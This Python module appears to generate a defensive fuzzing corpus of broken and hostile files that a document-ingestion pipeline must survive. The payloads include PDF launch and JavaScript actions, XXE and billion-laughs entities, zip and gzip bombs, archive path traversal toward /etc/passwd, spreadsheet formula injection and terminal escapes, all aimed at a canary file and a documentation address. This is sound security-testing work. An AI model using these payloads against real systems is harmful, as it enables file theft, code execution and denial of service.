"""Makes broken and hostile files of every kind, any number of them: what a run must survive without doing what they ask."""

from __future__ import annotations

import base64
import gzip
import io
import itertools
import re
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from random import Random

import msg_files
import old_office_files
import pikepdf
import word_files
from bad_pdf_files import drawn_in_itself, made, pages_in_a_circle, said
from hostile_lengths import FORMULA, long_traps
from openpyxl import Workbook
from pikepdf import Array, Dictionary, Name, String

Made = tuple[str, bytes]
SAMPLES = Path(__file__).parents[1] / "sample_docs"
ESCAPE = "\x1b[2J\x1b]0;owned\x07\x9b31m[red]x[/red]\u202e"
REMOTE = "http://192.0.2.7/canary.png"
"""An address that is kept for documentation: nobody answers there."""


def hostile_files(count: int, canary: Path) -> Iterator[Made]:
    """`count` files: first each trap once, then broken copies of good files. `canary`: a file that nothing may open."""
    traps = itertools.chain(
        _pdf_traps(canary), _mail_traps(canary), _packed_traps(), _xml_traps(canary), _text_traps(canary), long_traps()
    )
    broken = _broken(Random(7))
    for number, (name, data) in enumerate(itertools.islice(itertools.chain(traps, broken), count)):
        yield f"{number:03d}-{name}", data


# --- broken copies -------------------------------------------------------------------------------------------------------------


def _good() -> list[Made]:
    names = (
        "06_foi_reply.pdf",
        "05_blank_form.pdf",
        "09_automatic_reply.eml",
        "08_report_with_attachment.eml",
        "10_breach_policy.txt",
    )
    found = [(name, (SAMPLES / name).read_bytes()) for name in names]
    docx = word_files.document(
        word_files.line("We report a breach of 3 May 2020.") + word_files.table(("Ref", "Date"), ("B1", "1 May 2020"))
    )
    msg = msg_files.msg(
        {"class": "IPM.Note", "subject": "A breach", "body": "We report a breach of 3 May 2020.", "sender": "a@a.example"}
    )
    found += [("letter.docx", docx), ("note.msg", msg), ("old.doc", old_office_files.DOC), ("form.rtf", old_office_files.RTF)]
    found += [("form.odt", old_office_files.odt()), ("log.xlsx", _workbook([["Ref", "Date of breach"], ["B1", "1 May 2020"]]))]
    members = {"a.eml": found[2][1], "b.docx": docx}
    found += [("bundle.zip", zipped(members)), ("bundle.tar.gz", gzip.compress(tarred(members))), ("dot.png", _png(4, 4))]
    return found


def _broken(random: Random) -> Iterator[Made]:
    good = _good()
    while True:
        for how in (_truncated, _flipped, _wrong_numbers, _wrong_lengths, _doubled):
            name, data = random.choice(good)
            yield f"{how.__name__.strip('_')}-{name}", how(random, data)


def _truncated(random: Random, data: bytes) -> bytes:
    return data[: random.randrange(len(data))]


def _flipped(random: Random, data: bytes) -> bytes:
    out = bytearray(data)
    for _ in range(random.choice((1, 8, 64))):
        out[random.randrange(len(out))] ^= 1 << random.randrange(8)
    return bytes(out)


def _wrong_numbers(random: Random, data: bytes) -> bytes:
    """Numbers that are written out, made huge, negative or nothing."""
    put = random.choice((b"4294967295", b"-1", b"0", b"99999999999999999999", b"1e999"))
    return re.sub(rb"\d+", lambda match: put if random.random() < 0.1 else match[0], data)


def _wrong_lengths(random: Random, data: bytes) -> bytes:
    """Four bytes somewhere say the greatest number, or the least."""
    out = bytearray(data)
    for _ in range(random.choice((1, 4))):
        at = random.randrange(max(len(out) - 4, 1))
        out[at : at + 4] = random.choice((b"\xff\xff\xff\xff", b"\xff\xff\xff\x7f", b"\x00\x00\x00\x80", b"\x00\x00\x00\x00"))
    return bytes(out)


def _doubled(random: Random, data: bytes) -> bytes:
    at, end = sorted(random.randrange(len(data)) for _ in range(2))
    return data[:end] + data[at : min(end, at + 50_000)] * random.choice((2, 5)) + data[end:]


# --- PDF -----------------------------------------------------------------------------------------------------------------------


def _pdf(change: Callable[[pikepdf.Pdf], None], words: str = "A letter of 3 May 2020.") -> bytes:
    return made(said(words), lambda pdf, _: change(pdf))


def _pdf_traps(canary: Path) -> Iterator[Made]:
    actions = {
        "javascript": Dictionary(S=Name.JavaScript, JS=String("app.launchURL('" + REMOTE + "')")),
        "launch": Dictionary(S=Name.Launch, F=String("/bin/sh"), P=String("-c 'touch owned'")),
        "uri": Dictionary(S=Name.URI, URI=String(REMOTE)),
        "submit": Dictionary(S=Name.SubmitForm, F=String(REMOTE)),
        "import": Dictionary(S=Name.ImportData, F=String(str(canary))),
        "remote": Dictionary(S=Name.GoToR, F=String(str(canary)), D=Array([0, Name.Fit])),
    }
    for name, action in actions.items():
        yield f"{name}.pdf", _pdf(lambda pdf, action=action: _set(pdf.Root, OpenAction=action, AA=Dictionary(WC=action)))
    yield "link.pdf", made(said("words"), lambda pdf, page: _set(page, Annots=Array([_link(pdf)])))
    yield "attached.pdf", _pdf(lambda pdf: _attach(pdf, "../../../owned.txt"))
    yield "pages_in_a_circle.pdf", pages_in_a_circle()
    yield "drawn_in_itself.pdf", drawn_in_itself()
    yield "parent_is_child.pdf", _pdf(lambda pdf: _set(pdf.Root.Pages, Parent=pdf.Root.Pages, Kids=Array([pdf.Root.Pages] * 3)))
    yield "many_pages.pdf", _pdf(lambda pdf: _set(pdf.Root.Pages, Count=2**31 - 1))
    yield "deep.pdf", b"%PDF-1.7\n1 0 obj " + b"[" * 50_000 + b"]" * 50_000 + b" endobj\ntrailer <</Root 1 0 R>>"
    yield "huge_page.pdf", made(said("words"), lambda _, page: _set(page, MediaBox=Array([0, 0, 10**9, 10**9])))
    yield "no_page_size.pdf", made(said("words"), lambda _, page: _set(page, MediaBox=Array([0, 0, 0, 0])))
    yield "escapes.pdf", made(said("words \\033[2J \\000 \\233 31m"))
    yield (
        "external_stream.pdf",
        made(said("words"), lambda _, page: _set(page.Contents, F=String(str(canary)), FFilter=Name.FlateDecode)),
    )
    xfa = (
        f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{canary}">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&a;</xdp:xdp>'.encode()
    )
    yield "xfa_entity.pdf", _pdf(lambda pdf: _set(pdf.Root, AcroForm=Dictionary(Fields=Array([]), XFA=pdf.make_stream(xfa))))
    yield "field_circle.pdf", _pdf(_field_circle)
    yield "filters.pdf", made(said("x") * 3, lambda _, page: _set(page.Contents, Filter=Array([Name.FlateDecode] * 200)))
    yield "only_a_head.pdf", b"%PDF-1.7\n%%EOF\n"
    yield (
        "xref_loop.pdf",
        b"%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer <</Size 1/Prev 9/Root 1 0 R>>\nstartxref\n9\n%%EOF\n",
    )


def _set(holder: pikepdf.Object, **values: object) -> None:
    for key, value in values.items():
        holder[f"/{key}"] = value


def _link(pdf: pikepdf.Pdf) -> pikepdf.Object:
    action = Dictionary(S=Name.URI, URI=String(REMOTE + "?" + "a" * 5000))
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 99, 99]), A=action))


def _attach(pdf: pikepdf.Pdf, name: str) -> None:
    pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, b"words of 3 May 2020", filename=name)


def _field_circle(pdf: pikepdf.Pdf) -> None:
    field = pdf.make_indirect(Dictionary(T=String(FORMULA), FT=Name.Tx, V=String(ESCAPE)))
    field.Kids = Array([field])
    field.Parent = field
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True)


# --- mail and web pages ----------------------------------------------------------------------------------------------------------


def _mail(body: str = "words", kind: str = "text/plain; charset=utf-8", subject: str = "A breach", more: str = "") -> bytes:
    head = (
        f"From: Ann <a@a.example>\nTo: b@b.example\nSubject: {subject}\nDate: Mon, 4 May 2020 10:00:00 +0100\nMIME-Version: 1.0\n"
    )
    return f"{head}{more}Content-Type: {kind}\n\n{body}\n".encode("utf-8", "surrogatepass")


def _page(canary: Path) -> str:
    return (
        f'<html><head><base href="{REMOTE}"><meta http-equiv="refresh" content="0;url={REMOTE}"><link rel=stylesheet href="{REMOTE}">'
        f'<style>@import url("{REMOTE}");</style><script src="{REMOTE}">fetch("{REMOTE}")</script></head><body background="{REMOTE}">'
        f'<img src="{REMOTE}"><img src="file://{canary}"><iframe src="file://{canary}"></iframe><object data="{REMOTE}"></object>'
        f'<svg><image href="{REMOTE}"/></svg><p>Words of 3 May 2020.</p><form action="{REMOTE}"><input></form></body></html>'
    )


def _mail_traps(canary: Path) -> Iterator[Made]:
    yield "long_header_lines.eml", _mail(more="".join(f"X-A{n}: b\n" for n in range(100_000)))
    yield (
        "parts.eml",
        _mail("\n".join(["--b\nContent-Type: text/plain\n\nx"] * 10_000) + "\n--b--", 'multipart/mixed; boundary="b"'),
    )
    yield "remote.eml", _mail(_page(canary), "text/html")
    yield "page.html", _page(canary).encode()
    nested = "".join(f'Content-Type: multipart/mixed; boundary="b{i}"\n\n--b{i}\n' for i in range(500))
    yield "multipart_deep.eml", b"From: a@a.example\nSubject: x\n" + nested.encode() + b"\nwords"
    yield "message_deep.eml", b"From: a@a.example\nContent-Type: message/rfc822\n\n" * 600 + b"\nwords"
    yield "headers.eml", _mail(more="X-A: b\n" * 20_000)
    yield "long_header.eml", _mail(more="References: " + "<a@b> " * 20_000 + "\n")
    for access in ("local-file", "anon-ftp", "URL"):
        where = f'; access-type={access}; name="{canary}"; site="192.0.2.7"; URL="{REMOTE}"'
        yield f"external_{access}.eml", _mail("Content-Type: text/plain\n\n", "message/external-body" + where)
    yield "escapes.eml", _mail(ESCAPE, subject=ESCAPE.replace("\n", ""), more=f"Cc: {ESCAPE} <c@c.example>\n")
    yield "formula.eml", _mail(f"{FORMULA}\n+1+1\n@SUM(1)\n-2+3", subject=FORMULA)
    yield "nul.eml", _mail("wo\x00rds\x00", subject="a\x00b")
    yield "charset.eml", _mail("words", 'text/plain; charset="../../etc/passwd"')
    yield "codec.eml", _mail("789c", 'text/plain; charset="zlib_codec"')
    yield "names.eml", _mail(
        '--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename="../../../owned\x1b[2J.txt"\n\nwords\n--b--',
        'multipart/mixed; boundary="b"',
    )  # fmt: skip
    yield "bomb.eml", _mail(
        "--b\nContent-Type: application/gzip\nContent-Transfer-Encoding: base64\n"
        'Content-Disposition: attachment; filename="a.gz"\n\n' + base64.encodebytes(_gzip_bomb()).decode() + "--b--",
        'multipart/mixed; boundary="b"',
    )  # fmt: skip
    yield "deep.html", b"<div>" * 60_000 + b"words"
    yield "attribute.html", b'<p title="' + b"a" * 500_000 + b">words"
    yield "quotes.eml", _mail("\n".join(">" * depth + " words" for depth in range(1, 400)))
    yield "from_lines.mbox", b"From a@a.example Mon May  4 10:00:00 2020\n" * 1_000


# --- archives and pictures -------------------------------------------------------------------------------------------------------


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def tarred(members: dict[str, bytes], links: tuple[tuple[str, bytes, str], ...] = ()) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for name, kind, target in links:
            link = tarfile.TarInfo(name)
            link.type, link.linkname = kind, target
            archive.addfile(link)
    return out.getvalue()


def _gzip_bomb(size: int = 30_000_000) -> bytes:
    return gzip.compress(bytes(size), 6, mtime=0)


def _packed_traps() -> Iterator[Made]:
    words = b"Words of 3 May 2020."
    names = (
        "../../owned.txt",
        "/tmp/owned.txt",
        "C:\\owned.txt",
        "..\\..\\owned.txt",
        "a/../../owned.txt",
        "~/owned.txt",
        "\x1b[2Ja.txt",
        "con",
        "a" * 5_000,
    )
    yield "traversal.zip", zipped(dict.fromkeys(names, words))
    kinds = (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE)
    links = tuple((f"link{place}", kind, "../../../../etc/passwd") for place, kind in enumerate(kinds))
    yield "traversal.tar", tarred(dict.fromkeys(names, words), links)
    yield "bomb.zip", zipped({"a.txt": bytes(30_000_000)})
    yield "bomb.gz", _gzip_bomb()
    inner = zipped({"a.txt": words})
    for _ in range(40):
        inner = zipped({"a.zip": inner})
    yield "nested.zip", inner
    yield "many.zip", zipped({f"{place}.txt": b"" for place in range(3_000)})
    yield "sizes.zip", re.sub(re.escape(struct.pack("<I", len(words))), b"\xfe\xff\xff\xff", zipped({"a.txt": words}))
    yield "size.tar", tarred({"a.txt": words}).replace(b"00000000024", b"77777777777", 1)
    yield "self.tar.gz", gzip.compress(gzip.compress(gzip.compress(words)))
    yield "pixels.png", _png(100_000, 100_000)
    yield (
        "pixels.tif",
        b"II*\x00\x08\x00\x00\x00\x04\x00"
        + b"".join(struct.pack("<HHII", tag, 4, 1, 2**31 - 1) for tag in (256, 257, 273, 279))
        + bytes(4),
    )
    yield "chunk.png", _png(4, 4).replace(b"\x00\x00\x00\rIHDR", b"\xff\xff\xff\xffIHDR")
    yield "long_chain.msg", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 4_000


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(20))) + chunk(b"IEND", b"")


# --- office files, text ----------------------------------------------------------------------------------------------------------


def _workbook(rows: list[list[object]]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)  # type: ignore[union-attr]
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _changed(data: bytes, member: str, change: Callable[[bytes], bytes]) -> bytes:
    """A ZIP file with one member changed."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return zipped({name: change(archive.read(name)) if name == member else archive.read(name) for name in archive.namelist()})


def _xml_traps(canary: Path) -> Iterator[Made]:
    laughs = "".join(f'<!ENTITY l{place} "{f"&l{place - 1};" * 10}">' for place in range(1, 12))
    heads = {
        "laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>',
        "blowup": f'<!DOCTYPE x [<!ENTITY l11 "{"a" * 50_000}">]>',
        "entity": f'<!DOCTYPE x [<!ENTITY l11 SYSTEM "file://{canary}">]>',
        "remote": f'<!DOCTYPE x SYSTEM "{REMOTE}" [<!ENTITY % a SYSTEM "{REMOTE}"> %a; <!ENTITY l11 SYSTEM "{REMOTE}">]>',
    }
    docx = word_files.document(word_files.line("HERE"))
    xlsx = _workbook([["HERE"]])
    for name, head in heads.items():
        put = lambda xml, head=head: _entity(xml, head)  # noqa: E731
        yield f"{name}.docx", _changed(docx, "word/document.xml", put)
        yield f"{name}.odt", _changed(old_office_files.odt(), "content.xml", put)
        yield f"{name}.xlsx", _changed(xlsx, "xl/sharedStrings.xml", put)
    linked = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" TargetMode="External" '
    linked += f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{REMOTE}"/></Relationships>'
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    yield "template.docx", zipped(members | {"word/_rels/settings.xml.rels": linked.encode()})
    yield "deep.docx", _changed(docx, "word/document.xml", lambda xml: xml.replace(b"<w:p>", b"<w:p>" + b"<w:ins>" * 30_000, 1))
    yield "formula.xlsx", _workbook([["Ref", "Date of breach", "Details"], [FORMULA, "1 May 2020", f'=WEBSERVICE("{REMOTE}")']])
    yield (
        "field.rtf",
        rb"{\rtf1 {\field{\*\fldinst INCLUDEPICTURE "
        + REMOTE.encode()
        + rb"}{\fldrslt words}}{\object\objdata "
        + b"41" * 5_000
        + b"}}",
    )
    yield "deep.rtf", rb"{\rtf1 " + b"{" * 100_000 + b"words" + b"}" * 100_000


def _entity(xml: bytes, head: str) -> bytes:
    plain = re.sub(rb"^\s*<\?xml[^>]*\?>", b"", xml)
    return b"<?xml version='1.0'?>" + head.encode() + re.sub(rb">([^<>]*[A-Za-z][^<>]*)<", b">&l11;<", plain, count=1)


def _text_traps(canary: Path) -> Iterator[Made]:
    runs = {
        "spaces": " ",
        "digits": "1",
        "dates": "1/1/2020 ",
        "refs": "IC-",
        "open": "(",
        "commas": ",",
        "from": "From: a\n",
        "marks": "☐ ",
    }
    for name, sign in runs.items():
        yield f"{name}.txt", (f"Dear Sir,\n{sign * (20_000 // len(sign))}\nwords").encode()
    yield "escapes.txt", ("Dear Sir,\n" + ESCAPE * 20).encode()
    yield "nul.txt", b"Dear Sir,\n\x00\x00words\x00 of 3 May 2020"
    yield "columns.csv", b",".join(b"c%d" % place for place in range(20_000)) + b"\n" + b"1," * 20_000
    yield "quote.csv", b'Ref,Date of breach\n"' + b"a,b\n" * 20_000
    yield "formula.csv", f"Ref,Date of breach,Details\n{FORMULA},1 May 2020,@SUM(1)\n-1,2 May 2020,\t=1+1\n".encode()
    yield "surrogates.txt", "words \ud800\udfff of 3 May 2020".encode("utf-8", "surrogatepass")
    yield "utf16.txt", b"\xff\xfe" + b"\x00\xd8" * 5_000
    yield "shortcut.url", f"[InternetShortcut]\nURL={REMOTE}\nIconFile={canary}\n".encode()
    yield "page.mht", _mail(_page(canary), "text/html", more="Content-Location: " + REMOTE + "\n")
    yield (
        "script.svg",
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="x"><image href="{REMOTE}"/><text>words</text></svg>'.encode(),
    )
    yield "empty.pdf", b""
